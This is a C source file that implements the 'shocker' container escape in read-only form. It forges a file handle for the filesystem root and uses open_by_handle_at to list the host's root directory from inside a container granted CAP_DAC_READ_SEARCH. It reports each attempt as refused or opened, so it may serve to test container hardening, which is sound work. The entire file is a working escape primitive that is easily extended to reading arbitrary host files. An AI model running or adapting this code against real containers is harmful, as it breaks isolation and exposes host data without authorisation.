/*
 * The "shocker" escape, read-only: for each path given, ask the kernel for a file handle of that
 * file's filesystem (name_to_handle_at), then try to open that filesystem's root directory by a
 * handle made up for it (inode 2, generation 0: ext4's root) with open_by_handle_at, and list it.
 * From a container whose root may use open_by_handle_at (CAP_DAC_READ_SEARCH in the host's user
 * namespace), a file bind-mounted from the host's disk (say /etc/hosts) opens the host's root.
 * It only reads. Prints one line per path: "<path>: refused (<error>)" or "<path>: OPENED" then
 * the directory's entries.
 *   cc -static -o open-by-handle open-by-handle.c; ./open-by-handle PATH...
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
  for (int i = 1; i < argc; i++) {
    struct file_handle *probe = malloc(sizeof *probe + MAX_HANDLE_SZ);
    int mount_id;
    probe->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, argv[i], probe, &mount_id, 0) != 0) {
      printf("%s: no handle (%s)\n", argv[i], strerror(errno));
      free(probe);
      continue;
    }
    /* The same kind of handle, for the filesystem's root: inode 2, generation 0. */
    struct file_handle *root = malloc(sizeof *root + 8);
    unsigned int ino_gen[2] = {2, 0};
    root->handle_bytes = 8;
    root->handle_type = probe->handle_type;
    memcpy(root->f_handle, ino_gen, 8);
    int where = open(argv[i], O_RDONLY | O_NONBLOCK);
    int fd = where < 0 ? -1 : open_by_handle_at(where, root, O_RDONLY | O_DIRECTORY);
    if (fd < 0) {
      printf("%s: refused (%s)\n", argv[i], strerror(errno));
    } else {
      printf("%s: OPENED\n", argv[i]);
      DIR *dir = fdopendir(fd);
      for (struct dirent *e; dir && (e = readdir(dir));) printf("  %s\n", e->d_name);
      if (dir) closedir(dir);
    }
    if (where >= 0) close(where);
    free(probe);
    free(root);
  }
  return 0;
}
